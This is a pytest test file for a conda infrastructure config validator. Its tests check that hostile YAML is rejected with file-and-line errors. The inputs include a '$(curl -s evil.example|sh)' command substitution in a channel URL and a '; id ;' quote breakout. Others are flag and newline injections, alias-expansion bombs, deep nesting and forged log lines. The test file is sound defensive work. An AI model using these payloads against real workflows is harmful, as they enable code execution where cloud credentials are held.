"""Config that validated but should not (issue 11): every case is refused by `validate` with file:line, exit 2."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

ORG = "stacks/acme/org.yaml"
FEED = "stacks/acme/feedstocks"
MIRROR = "stacks/mirror/mirror.yaml"


def write(root: Path, rel: str, data: str | bytes) -> None:
    path = root / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data)


def validate(cli, root: Path, expected: list[str]) -> str:
    result = cli("validate", "--root", str(root))
    assert result.code == 2, result.out + result.err
    for line in expected:
        assert line in result.err, f"{line!r} not in:\n{result.err}"
    assert "Traceback" not in result.err and "internal error" not in result.err
    return result.err


# --- the mirror's config reaches a workflow holding cloud credentials: values must fit a grammar


@pytest.mark.parametrize(
    "old, new, expected",
    [
        (  # the two payloads observed in issue 11
            "    source: https://conda.anaconda.org/bioconda\n",
            "    source: \"https://conda.anaconda.org/bioconda;$(curl -s evil.example|sh)\"\n",
            f"{MIRROR}:22: channels.1.source: 'https://conda.anaconda.org/bioconda;$(curl -s evil.example|sh)' is not a valid http(s) channel URL",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n    packages: [\"numpy*' ; id ; echo '\"]\n",
            f"{MIRROR}:24: channels.1.packages.0: \"numpy*' ; id ; echo '\" is not a valid package name glob",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, \"linux-64 --to oci://evil.example/x\"]\n",
            f"{MIRROR}:23: channels.1.subdirs.1: 'linux-64 --to oci://evil.example/x' is not a valid subdir",
        ),
        (
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
            "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n    packages: [\"--to=oci://evil.example/x\"]\n",
            f"{MIRROR}:24: channels.1.packages.0: '--to=oci://evil.example/x' is not a valid package name glob",
        ),
        (  # credentials do not belong in a config file that is in git
            "    source: https://conda.anaconda.org/bioconda\n",
            "    source: https://user:secret@conda.anaconda.org/bioconda\n",
            f"{MIRROR}:22: channels.1.source: 'https://user:secret@conda.anaconda.org/bioconda' is not a valid http(s) channel URL",
        ),
        (  # a schedule is written into the workflow's YAML: no quote, no newline
            '  schedule: "17 */2 * * *"\n',
            '  schedule: "17 */2 * * \\"\\n  x: 1"\n',
            f"{MIRROR}:14: sync.schedule:",
        ),
        (
            "  branch: main\n",
            "  branch: \"main\\nfoo\"\n",
            f"{MIRROR}:13: sync.branch:",
        ),
    ],
    ids=["source-command-substitution", "package-quote-breakout", "subdir-with-space", "package-as-flag", "source-userinfo", "schedule-newline", "branch-newline"],
)
def test_hostile_mirror_values_are_refused(cli, workdir, old, new, expected):
    text = (workdir / MIRROR).read_text()
    assert old in text
    write(workdir, MIRROR, text.replace(old, new))
    validate(cli, workdir, [expected])


def test_plain_mirror_values_still_validate(cli, workdir):
    text = (workdir / MIRROR).read_text().replace(
        "    subdirs: [noarch, linux-64, linux-aarch64, osx-64, osx-arm64]\n",
        "    subdirs: [noarch, linux-64, emscripten-wasm32]\n    packages: [\"numpy*\", python-3.1?, _libgcc_mutex, r-base]\n",
    ).replace("    source: https://conda.anaconda.org/bioconda\n", "    source: \"http://127.0.0.1:8080/bio_conda/~x/%7E.y\"\n")
    write(workdir, MIRROR, text)
    result = cli("validate", "--root", str(workdir))
    assert result.code == 0, result.err


def test_a_mirror_file_that_is_a_folder_is_reported(cli, workdir):
    (workdir / MIRROR).unlink()
    (workdir / MIRROR).mkdir()
    validate(cli, workdir, [f"{MIRROR}:1: not a file"])


# --- item 5: org files


def test_no_owners(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text().replace("owners: [alice, bob]\n", "owners: []\n"))
    validate(cli, minimal, [f"{ORG}:4: owners: an org needs at least one owner"])


def test_org_file_that_is_a_folder_is_reported_not_dropped(cli, minimal):
    (minimal / ORG).unlink()
    (minimal / ORG).mkdir()
    validate(cli, minimal, [f"{ORG}:1: not a file"])


def test_org_file_that_is_a_dangling_link_is_reported(cli, minimal):
    (minimal / ORG).unlink()
    os.symlink(minimal / "nowhere.yaml", minimal / ORG)
    validate(cli, minimal, [f"{ORG}:1: not a file"])


@pytest.mark.parametrize("text", ["", "\n", "# all feedstocks moved out\n", "---\n"])
def test_an_empty_feedstock_file_is_an_error(cli, minimal, text):
    # An emptied file (a bot's failed write, a bad merge) would plan the removal of every feedstock
    # it held; to declare none, delete the file.
    write(minimal, f"{FEED}/a.yaml", text)
    write(minimal, f"{FEED}/b.yaml", "numpy: [alice]\n")
    validate(cli, minimal, [f"{FEED}/a.yaml:1: empty feedstock file: it declares no feedstocks; delete it if that is meant"])


REPO_TOOLS = "repositories:\n  tools:\n"


@pytest.mark.parametrize(
    "old, new, expected",
    [
        ("teams:\n", "teams:\n  " + "t" * 256 + ":\n    members: [carol]\n", f"{ORG}:7: teams: '{'t' * 256}' is longer than GitHub's 255 characters for a team name"),
        ("", "repositories:\n  " + "r" * 101 + ": {}\n", f"{ORG}:12: repositories.{'r' * 101}: '{'r' * 101}' is not a valid repository name"),
        ("", REPO_TOOLS + "    description: " + "d" * 351 + "\n", f"{ORG}:13: repositories.tools.description: String should have at most 350 characters"),
        ("", REPO_TOOLS + "    topics: [" + "t" * 51 + "]\n", f"{ORG}:13: repositories.tools.topics.0: '{'t' * 51}' is not a valid topic"),
        ("", REPO_TOOLS + "    topics: [Has-Capitals]\n", f"{ORG}:13: repositories.tools.topics.0: 'Has-Capitals' is not a valid topic"),
        ("", REPO_TOOLS + "    topics: [" + ", ".join(f"t{i}" for i in range(21)) + "]\n", f"{ORG}:13: repositories.tools.topics: List should have at most 20 items"),
        ("feedstocks:\n", "feedstocks:\n  topics: [" + "t" * 51 + "]\n", f"{ORG}:10: feedstocks.topics.0: '{'t' * 51}' is not a valid topic"),
    ],
    ids=["team-name", "repo-name", "repo-description", "topic-length", "topic-grammar", "topic-count", "feedstock-topic"],
)
def test_github_length_limits(cli, minimal, old, new, expected):
    text = (minimal / ORG).read_text()
    text = text + new if not old else text.replace(old, new, 1)
    write(minimal, ORG, text)
    validate(cli, minimal, [expected])


def test_a_feedstock_description_too_long_once_its_name_is_filled_in(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text() + "  description: \"" + "d" * 340 + " {name}\"\n")
    write(minimal, f"{FEED}/a.yaml", "numpy: [alice]\nabcdefghijk: [bob]\n")
    validate(cli, minimal, [f"{FEED}/a.yaml:2: feedstock 'abcdefghijk': its description is longer than GitHub's 350 characters"])


def test_a_feedstock_description_with_an_unknown_placeholder(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text() + "  description: \"{nmae} recipes\"\n")
    validate(cli, minimal, [f"{ORG}:11: feedstocks.description: only {{name}} may be filled in"])


def test_non_utf8_bytes_are_reported_at_their_line(cli, minimal):
    write(minimal, f"{FEED}/a.yaml", b"numpy: [alice]\nscipy: [bob]\npandas: [caf\xe9]\n")
    err = validate(cli, minimal, [f"{FEED}/a.yaml:3: not UTF-8: byte 0xe9 in column 13"])
    assert "position" not in err


# --- issue 17: a file cannot be made to expand, nest without end, or forge message lines


def aliases(levels: int) -> str:
    """``levels`` lists of nine aliases of the list before: 9**levels values in about 50 bytes a level."""
    lines = ["x0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n"]
    lines += [f"x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n" for i in range(1, levels + 1)]
    return "".join(lines)


def test_aliases_that_expand_are_refused_at_their_line(cli, minimal):
    # 9**5 values from 300 bytes: loaded whole before (then refused only as unknown keys), 10 GB at 8 levels
    text = (minimal / ORG).read_text()
    lines = text.count("\n")
    write(minimal, ORG, text + aliases(5))
    err = validate(cli, minimal, [f"{ORG}:{lines + 5}: aliases make this document more than 10,000 values larger than written"])
    assert err.count("\n") == 2, err  # that one problem: nothing is built from such a file


def test_eight_levels_of_aliases_end_at_once_in_little_memory(minimal, tmp_path):
    # the case observed (123 s and 3 GB; 10 GB at 4 minutes here), in a process of its own held to 1 GB
    import resource
    import subprocess
    import sys

    write(minimal, ORG, (minimal / ORG).read_text() + aliases(8))
    limit = 1 << 30
    done = subprocess.run(
        [sys.executable, "-m", "condainfra", "validate", "--root", str(minimal)], capture_output=True, text=True, timeout=60,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (limit, limit)),
    )
    assert done.returncode == 2, done.stderr
    assert "aliases make this document more than 10,000 values larger than written" in done.stderr


def test_aliases_within_the_limit_still_load(cli, minimal):
    write(minimal, ORG, (minimal / ORG).read_text().replace(
        "    members: [alice, bob]\n", "    members: &core [alice, bob]\n  other:\n    members: *core\n"))
    result = cli("validate", "--root", str(minimal))
    assert result.code == 0, result.err
    from condainfra.project import Project

    assert Project.load(minimal).orgs["acme"].config.teams["other"].members == ["alice", "bob"]


@pytest.mark.parametrize("loop", ["loop: &loop [*loop]\n", "loop: &loop\n  again: *loop\n"], ids=["sequence", "mapping"])
def test_an_alias_inside_what_it_names_is_refused(cli, minimal, loop):
    # was: internal error: RecursionError
    text = (minimal / ORG).read_text()
    write(minimal, ORG, text + loop)
    validate(cli, minimal, [f"{ORG}:{text.count(chr(10)) + loop.count(chr(10))}: an alias names a value that holds it"])


def test_deep_nesting_is_refused_at_its_line(cli, minimal):
    # 900 levels pass libyaml's own limit of 1000 and were: internal error: RecursionError
    text = (minimal / ORG).read_text()
    write(minimal, ORG, text + "deep: " + "[" * 900 + "]" * 900 + "\n")
    validate(cli, minimal, [f"{ORG}:{text.count(chr(10)) + 1}: nested deeper than 64 levels"])


def test_a_config_file_over_the_size_cap_is_refused_before_it_is_read(cli, minimal):
    # a comment is cheap to parse: 5 MB of it validated before
    write(minimal, f"{FEED}/a.yaml", "numpy: [alice]\n" + "#" * (5 * 1024 * 1024) + "\n")
    validate(cli, minimal, [f"{FEED}/a.yaml:1: 5,242,896 bytes, more than the 4 MiB such a file may hold"])


def test_a_fifo_among_the_feedstock_files_is_refused_not_waited_on(cli, minimal):
    os.mkfifo(minimal / FEED / "a.yaml")  # was: `validate` waited for a writer forever
    validate(cli, minimal, [f"{FEED}/a.yaml:1: not a regular file"])


def test_a_key_holding_a_newline_cannot_forge_a_message_line(cli, minimal):
    forged = f"{ORG}:1: all checks passed"
    write(minimal, ORG, (minimal / ORG).read_text().replace(
        "teams:\n", f'teams:\n  "x\\n{forged}\\n\\e[2K":\n    privacy: bogus\n', 1))
    err = validate(cli, minimal, [f"{ORG}:8: teams.x\\n{forged}\\n\\x1b[2K.privacy: Input should be 'closed' or 'secret'"])
    assert not any(line.startswith(forged) for line in err.splitlines()), err
    assert "\x1b" not in err


def test_a_file_name_holding_a_newline_is_escaped(cli, minimal):
    write(minimal, f"{FEED}/a\nacme:1: all checks passed.yaml", "numpy: [nobody here]\n")
    err = validate(cli, minimal, [f"{FEED}/a\\nacme:1: all checks passed.yaml:1:"])
    assert not any(line.startswith("acme:1:") for line in err.splitlines()), err
